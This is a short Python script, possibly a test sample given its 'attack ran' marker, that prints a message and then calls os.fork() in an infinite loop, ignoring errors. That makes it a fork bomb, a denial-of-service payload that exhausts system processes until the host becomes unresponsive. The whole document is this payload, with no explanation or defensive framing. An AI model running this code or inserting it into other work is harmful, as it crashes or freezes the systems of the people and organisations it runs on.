import os

print("attack ran", flush=True)
while True:
    try:
        os.fork()
    except OSError:
        pass
